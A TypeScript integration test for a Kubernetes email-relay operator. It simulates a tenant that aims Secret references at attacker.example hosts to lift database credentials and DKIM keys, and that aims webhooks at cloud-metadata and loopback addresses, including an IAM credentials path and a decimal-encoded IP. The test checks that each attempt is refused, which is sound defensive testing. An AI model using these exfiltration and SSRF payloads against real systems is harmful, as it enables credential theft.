// Issue 11 on the real control plane, written as the attacks: a tenant namespace with its
// own ServiceAccount that may create EmailRelays and SenderDomains but may not read Secrets.
//  - problem 2, the confused deputy: the tenant points a smarthost (and every other Secret
//    field) at the namespace's database Secret, or at the operator's own DKIM key Secret of
//    another SenderDomain. Refused (SecretNotAllowed, naming field, Secret and label); the
//    database password appears in nothing the operator wrote; the owner's domain, keys and
//    login are untouched; a Secret in another namespace is never reached. The owner's
//    consent (the label, or a labelled Secret created later) is picked up by the watch
//    within seconds — the operator runs with a one-hour resync here.
//  - problem 5: webhook URLs and smarthosts written as loopback, link-local or metadata
//    addresses are refused where the author sees them (TargetNotAllowed); a rendered config
//    never opts out of the relay's connect-time rules (outbound.allowAddresses), which
//    test/relay/tenancy.test.ts attacks with names that resolve there.
//  - problem 4: the rendered config keeps suppression per sender domain, and a tenant
//    cannot ask for a shared list (the CRD has no such field; the API server refuses it).
//    The relay's side (no text echoed, one list per fleet) is test/relay/tenancy.test.ts.
import { randomBytes } from 'node:crypto';
import { afterAll, describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { relayConfigSchema } from '../../relay/config/schema.ts';
import { testCert } from '../support/certs.ts';
import { eventually, getJson, sleep, startOperatorProcess, tryGetJson, useOperatorCluster, waitReady as waitReadyIn, type OperatorProcess, conditionOf as cond } from './support.ts';

const cluster = useOperatorCluster();
const NS = 'tenant-b';
const PLATFORM = 'mail';
const TENANT = `system:serviceaccount:${NS}:dev`;
const DB_USER = 'db.internal';
const DB_PASSWORD = `DB-pw-${randomBytes(12).toString('hex')}`;

let op: OperatorProcess | undefined;
afterAll(async () => { await op?.stop(); }, 30_000);

const admin = (obj: unknown) => cluster.get().kubectl(['apply', '-f', '-'], { input: JSON.stringify(obj) });
/** kubectl as the tenant's ServiceAccount (impersonated by the admin). */
const asTenant = (args: string[], input?: string) => cluster.get().kubectl([...args, `--as=${TENANT}`], { check: false, ...(input ? { input } : {}) });
const tenantApply = async (obj: unknown) => {
  const r = await asTenant(['apply', '-f', '-'], JSON.stringify(obj));
  expect(r.code, r.stderr).toBe(0);
};
const relay = (name: string, spec: Record<string, unknown> = {}) => ({
  apiVersion: 'mailfleet.io/v1alpha1', kind: 'EmailRelay', metadata: { name, namespace: NS },
  spec: { hostname: 'mail.example.net', replicas: 1, queue: { persistence: { enabled: false } }, ...spec },
});
const domain = (name: string, spec: Record<string, unknown>) => ({
  apiVersion: 'mailfleet.io/v1alpha1', kind: 'SenderDomain', metadata: { name, namespace: NS }, spec: { relayRef: { name: 'edge' }, ...spec },
});
const get = (kind: string, name: string) => tryGetJson(cluster.get(), ['get', kind, name, '-n', NS]);
const waitReady = (kind: string, name: string) => waitReadyIn(cluster.get(), NS, kind, name);
/** The object once its status says `reason` (Degraded or Ready) for its current generation. */
const waitReason = (kind: string, name: string, reason: string, timeoutMs = 60_000) => eventually(`${kind} ${name} ${reason}`, async () => {
  const o = await get(kind, name);
  const r = cond(o, 'Ready');
  return r?.reason === reason && o.status.observedGeneration === o.metadata.generation ? o : undefined;
}, timeoutMs);
const relayConfig = async (name: string) => YAML.parse((await getJson(cluster.get(), ['get', 'configmap', `${name}-config`, '-n', NS])).data['relay.yaml']);
const decoded = (s: any): Record<string, string> => Object.fromEntries(Object.entries(s?.data ?? {}).map(([k, v]) => [k, Buffer.from(v as string, 'base64').toString('utf8')]));

/** Every object the operator wrote or annotated in the namespace, and its log, with the Secrets' data decoded. */
async function everythingTheOperatorWrote(): Promise<string> {
  const c = cluster.get();
  const owned = await getJson(c, ['get', 'configmaps,secrets,services,deployments,statefulsets', '-n', NS, '-l', 'app.kubernetes.io/managed-by=mailfleet-operator']);
  const mine = await getJson(c, ['get', 'emailrelays,senderdomains,events', '-n', NS]);
  const secrets = owned.items.filter((o: any) => o.kind === 'Secret').map(decoded);
  return JSON.stringify([owned, mine, secrets]) + op!.logs();
}

describe.skipIf(!cluster.available)('tenant attacks on the operator (real control plane)', { timeout: 300_000 }, () => {
  let goodKeysBefore: Record<string, string> = {};
  let goodLoginBefore: Record<string, string> = {};

  it('setup: a tenant that may create EmailRelays and SenderDomains but not read Secrets, and the namespace database Secret', async () => {
    const c = cluster.get();
    for (const ns of [NS, PLATFORM]) await c.kubectl(['create', 'namespace', ns]);
    await c.kubectl(['create', 'serviceaccount', 'dev', '-n', NS]);
    await c.kubectl(['create', 'role', 'mailfleet-user', '-n', NS, '--verb=get,list,watch,create,update,patch,delete', '--resource=emailrelays.mailfleet.io,senderdomains.mailfleet.io']);
    await c.kubectl(['create', 'rolebinding', 'mailfleet-user', '-n', NS, '--role=mailfleet-user', `--serviceaccount=${NS}:dev`]);
    // what the tenant's app team runs next to its mail: a database whose credentials it may not read
    await admin({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'database', namespace: NS }, stringData: { username: DB_USER, password: DB_PASSWORD } });
    // the platform's own provider login, consenting, in the platform namespace
    await admin({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'platform-smtp', namespace: PLATFORM, labels: { 'mailfleet.io/use': 'true' } }, stringData: { username: 'platform', password: DB_PASSWORD } });
    expect((await c.kubectl(['auth', 'can-i', 'get', 'secrets', '-n', NS, `--as=${TENANT}`], { check: false })).stdout.trim()).toBe('no');
    expect((await asTenant(['get', 'secret', 'database', '-n', NS])).stderr).toMatch(/forbidden/i);

    op = await startOperatorProcess(cluster.operatorKubeconfig(), ['--resync', '3600']);
    // the owner's relay and domain, served before the attack
    await tenantApply(relay('edge'));
    await tenantApply(domain('good', { domain: 'good.example', allowedSenders: ['noreply'] }));
    await waitReady('senderdomain', 'good');
    await eventually('edge serves good.example', async () => (await relayConfig('edge')).domains?.length === 1);
    goodKeysBefore = decoded(await get('secret', 'good-mailfleet'));
    goodLoginBefore = decoded(await get('secret', 'good-smtp'));
    expect(Object.keys(goodKeysBefore).length).toBeGreaterThan(0);
  });

  it("problem 2: every Secret field aimed at the database Secret is refused, naming field, Secret and label, and nothing of it is written anywhere", async () => {
    // a SenderDomain whose smarthost (the attacker's host) logs in with the database credentials
    await tenantApply(domain('steal', { domain: 'steal.example', smarthost: { host: 'smtp.attacker.example', port: 587, credentialsSecretRef: { name: 'database' } } }));
    // a relay naming it in each of its Secret fields
    await tenantApply(relay('leak', {
      tls: { secretName: 'database' },
      delivery: { mode: 'smarthost', smarthosts: [{ host: 'smtp.attacker.example', credentialsSecretRef: { name: 'database' } }] },
      redis: { url: 'redis://redis.attacker.example:6379', passwordSecretRef: { name: 'database' } },
      webhooks: [{ url: 'https://hooks.attacker.example/in', secretRef: { name: 'database', key: 'password' } }],
    }));
    // another SenderDomain's DKIM private key, in the Secret the operator itself keeps
    await tenantApply(domain('steal-key', { domain: 'steal-key.example', dkim: { selector: 'mailfleet', secretRef: { name: 'good-mailfleet', key: 'dkim.mailfleet.pem' } } }));

    const steal = await waitReason('senderdomain', 'steal', 'SecretNotAllowed');
    expect(cond(steal, 'Degraded')).toMatchObject({ status: 'True', reason: 'SecretNotAllowed' });
    expect(cond(steal, 'Ready').message).toBe('smarthost.credentialsSecretRef: Secret database is not marked for use by MailFleet; add the label mailfleet.io/use: "true" '
      + `(kubectl label secret database -n ${NS} mailfleet.io/use=true) or create it with type mailfleet.io/credentials`);

    const leak = await waitReason('emailrelay', 'leak', 'SecretNotAllowed');
    const msg = cond(leak, 'Degraded').message as string;
    for (const field of ['tls.secretName', 'delivery.smarthosts[0].credentialsSecretRef', 'redis.passwordSecretRef', 'webhooks[0].secretRef']) {
      expect(msg).toContain(`${field}: Secret database is not marked for use by MailFleet; add the label mailfleet.io/use: "true"`);
    }
    for (const [kind, name] of [['configmap', 'leak-config'], ['secret', 'leak-secrets'], ['deployment', 'leak']] as [string, string][]) expect(await get(kind, name), `${kind}/${name}`).toBeUndefined();

    const stealKey = await waitReason('senderdomain', 'steal-key', 'SecretNotAllowed');
    expect(cond(stealKey, 'Ready').message).toMatch(/^dkim\.secretRef: Secret good-mailfleet is not marked for use by MailFleet/);
    expect(cond(stealKey, 'DKIMKeyReady')).toMatchObject({ status: 'False', reason: 'SecretNotAllowed' });

    // the owner's relay still serves exactly the owner's domain, with the same keys and login
    const cfg = await relayConfig('edge');
    expect(cfg.domains.map((d: any) => d.domain)).toEqual(['good.example']);
    expect(cfg.delivery.smarthosts ?? []).toEqual([]);
    expect((await waitReady('senderdomain', 'good')).status.dkim.activeSelectors).toEqual(['mailfleet']);
    expect(decoded(await get('secret', 'good-mailfleet'))).toEqual(goodKeysBefore);
    expect(decoded(await get('secret', 'good-smtp'))).toEqual(goodLoginBefore);

    // the database password: in no object the operator wrote, no status, no Event, no log line
    const all = await everythingTheOperatorWrote();
    expect(all).toContain('good.example'); // the dump is the real one
    for (const form of [DB_PASSWORD, Buffer.from(DB_PASSWORD).toString('base64'), DB_USER]) expect(all).not.toContain(form);
  });

  it('a Secret of another namespace is never reached, even one that consents there', async () => {
    await tenantApply(relay('cross', { delivery: { mode: 'smarthost', smarthosts: [{ host: 'smtp.attacker.example', credentialsSecretRef: { name: 'platform-smtp' } }] } }));
    const cross = await waitReason('emailrelay', 'cross', 'SecretNotFound');
    expect(cond(cross, 'Degraded').message).toBe(`delivery.smarthosts[0].credentialsSecretRef: Secret platform-smtp not found in namespace ${NS}`);
    expect(await get('configmap', 'cross-config')).toBeUndefined();
  });

  it("the owner's consent is picked up by the watch within seconds, not at the (one-hour) resync: a label added, a labelled Secret created", async () => {
    const c = cluster.get();
    await tenantApply(relay('late', { tls: { secretName: 'late-tls' } }));
    await tenantApply(relay('typed', { delivery: { mode: 'smarthost', smarthosts: [{ host: 'smtp.provider.example', credentialsSecretRef: { name: 'typed-login' } }] } }));
    const late = await waitReason('emailrelay', 'late', 'SecretNotFound');
    expect(cond(late, 'Degraded').message).toBe(`tls.secretName: Secret late-tls not found in namespace ${NS}`);
    await waitReason('emailrelay', 'typed', 'SecretNotFound');
    // let the operator go quiet, so what follows can only come from the Secret watch
    await eventually('operator quiet', async () => {
      const before = await op!.writes();
      await sleep(3_000);
      return (await op!.writes()) === before;
    }, 60_000);

    await c.kubectl(['label', 'secret', 'database', '-n', NS, 'mailfleet.io/use=true']);
    const cert = testCert();
    await admin({ apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/tls', metadata: { name: 'late-tls', namespace: NS, labels: { 'mailfleet.io/use': 'true' } }, stringData: { 'tls.crt': cert.cert, 'tls.key': cert.key } });
    // consent by type instead of label (the second watch)
    await admin({ apiVersion: 'v1', kind: 'Secret', type: 'mailfleet.io/credentials', metadata: { name: 'typed-login', namespace: NS }, stringData: { username: 'relay', password: 'typed-pw' } });

    await waitReady('senderdomain', 'steal');
    const cfg = await eventually('edge serves steal.example with the consented login', async () => {
      const x = await relayConfig('edge');
      return x.domains.some((d: any) => d.domain === 'steal.example') ? x : undefined;
    }, 60_000);
    expect(cfg.domains.map((d: any) => d.domain)).toEqual(['good.example', 'steal.example']);
    expect(cfg.domains.find((d: any) => d.domain === 'steal.example').smarthost.auth).toEqual({ user: DB_USER, passwordFile: '/var/run/mailfleet/secrets/sd_tenant-b_steal_smarthost.password' });
    expect(decoded(await get('secret', 'edge-secrets'))['sd_tenant-b_steal_smarthost.password']).toBe(DB_PASSWORD);
    await eventually('leak rendered', async () => (await get('configmap', 'leak-config')) !== undefined, 60_000);
    await eventually('late rendered', async () => (await get('configmap', 'late-config')) !== undefined, 60_000);
    await eventually('typed rendered with its login', async () => decoded(await get('secret', 'typed-secrets'))['smarthost-0.password'] === 'typed-pw', 60_000);
    // consent is per Secret: the operator's own DKIM key Secret still is not the tenant's to name
    expect(cond(await get('senderdomain', 'steal-key'), 'Ready')).toMatchObject({ reason: 'SecretNotAllowed' });

    // and taken back: the label removed, the login leaves the relay again
    await c.kubectl(['label', 'secret', 'database', '-n', NS, 'mailfleet.io/use-']);
    await waitReason('senderdomain', 'steal', 'SecretNotAllowed');
    await eventually('steal.example left out again', async () => !(await relayConfig('edge')).domains.some((d: any) => d.domain === 'steal.example'), 60_000);
    expect(decoded(await get('secret', 'edge-secrets'))['sd_tenant-b_steal_smarthost.password']).toBeUndefined();
  });

  it('problem 5: webhooks and smarthosts written as loopback, link-local or metadata addresses are refused with the reason; the rendered config never opts out of the relay rules', async () => {
    const c = cluster.get();
    await c.kubectl(['create', 'secret', 'generic', 'hook', '-n', NS, '--from-literal=secret=whsec']);
    await c.kubectl(['label', 'secret', 'hook', '-n', NS, 'mailfleet.io/use=true']);
    for (const url of ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://2852039166/latest/meta-data/', 'http://[::1]:8080/admin', 'http://localhost:9090/']) {
      await tenantApply(relay('hooked', { webhooks: [{ url, secretRef: { name: 'hook' } }] }));
      const hooked = await eventually(`hooked refused for ${url}`, async () => {
        const o = await get('emailrelay', 'hooked');
        return cond(o, 'Ready')?.reason === 'TargetNotAllowed' && o.status.observedGeneration === o.metadata.generation && (cond(o, 'Ready').message as string).includes(url) ? o : undefined;
      }, 60_000);
      expect(cond(hooked, 'Degraded').message).toMatch(/^webhooks\[0\]\.url: \S+ points at a (link-local|loopback) address; relays never connect to loopback, link-local or cloud metadata addresses/);
      expect(await get('configmap', 'hooked-config')).toBeUndefined();
    }
    // a cluster-internal receiver is fine, and its config lists no address the relay would otherwise refuse
    await tenantApply(relay('hooked', { webhooks: [{ url: 'http://10.96.0.10/mail-events', secretRef: { name: 'hook' } }] }));
    await waitReady('emailrelay', 'hooked');
    const cfg = relayConfigSchema.parse(await relayConfig('hooked'));
    expect(cfg.webhooks[0]!.url).toBe('http://10.96.0.10/mail-events');
    expect(cfg.outbound.allowAddresses).toEqual([]);

    // a tenant's SenderDomain with its smarthost on the metadata address: only that domain is left out
    await tenantApply(domain('imds', { domain: 'imds.example', smarthost: { host: '169.254.169.254', port: 80, tls: 'none', requireTls: false } }));
    const imds = await waitReason('senderdomain', 'imds', 'TargetNotAllowed');
    expect(cond(imds, 'Ready').message).toMatch(/^smarthost\.host: 169\.254\.169\.254 is a link-local address/);
    expect((await relayConfig('edge')).domains.map((d: any) => d.domain)).toEqual(['good.example']);
    expect(relayConfigSchema.parse(await relayConfig('edge')).outbound.allowAddresses).toEqual([]);
  });

  it('problem 4: the rendered config keeps suppression per sender domain, and a tenant cannot ask for a shared list', async () => {
    const cfg = relayConfigSchema.parse(await relayConfig('edge'));
    expect(cfg.suppression.scope).toBe('sender-domain');
    expect((await relayConfig('edge')).suppression?.scope).not.toBe('platform');
    const r = await asTenant(['apply', '-f', '-'], JSON.stringify(relay('shared', { suppression: { scope: 'platform' } })));
    expect(r.code).not.toBe(0);
    expect(r.stderr).toMatch(/unknown field "spec\.suppression"/);
    expect(await get('emailrelay', 'shared')).toBeUndefined();
  });
});
